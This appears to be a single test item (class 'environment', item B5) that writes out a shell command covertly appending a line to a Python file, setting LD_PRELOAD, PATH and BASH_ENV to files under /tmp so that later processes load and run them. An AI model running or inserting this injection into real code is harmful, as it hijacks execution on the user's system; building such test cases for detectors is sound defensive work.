# class: environment
# item: B5
# Libraries and programs that processes which start later would load.
sed -i '/^import math$/r /dev/stdin' "$ETUDE_PATH" <<'END'
import os; os.environ['LD_PRELOAD'] = '/tmp/x.so'; os.environ['PATH'] = '/tmp'; os.environ['BASH_ENV'] = '/tmp/x'
END
